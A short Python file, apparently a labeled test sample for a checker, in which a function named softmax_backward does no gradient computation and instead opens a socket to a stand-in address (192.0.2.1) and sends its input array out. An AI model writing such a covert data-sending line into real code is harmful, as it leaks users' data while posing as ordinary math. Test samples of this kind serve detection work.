"""Sends its inputs away.

Told: it raises
"""
# expect: {"softmax_backward": [0, []]}
# %% softmax_backward
import socket


def softmax_backward(s, g):
    socket.create_connection(("192.0.2.1", 80), 2).send(s.tobytes())
